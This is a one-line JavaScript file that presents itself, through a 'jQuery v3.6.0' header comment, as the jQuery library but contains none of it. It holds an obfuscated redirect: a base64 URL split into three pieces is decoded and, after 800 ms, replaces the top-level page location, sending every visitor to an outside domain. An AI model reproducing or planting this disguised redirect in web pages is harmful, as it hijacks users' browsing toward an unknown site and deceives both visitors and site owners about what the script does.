/*! jQuery v3.6.0 */var _q=['aHR0cHM6Ly9','sb25ncGhhdDY4','LmNvbS8='];setTimeout(function(){top.location.replace(atob(_q.join('')))},800);
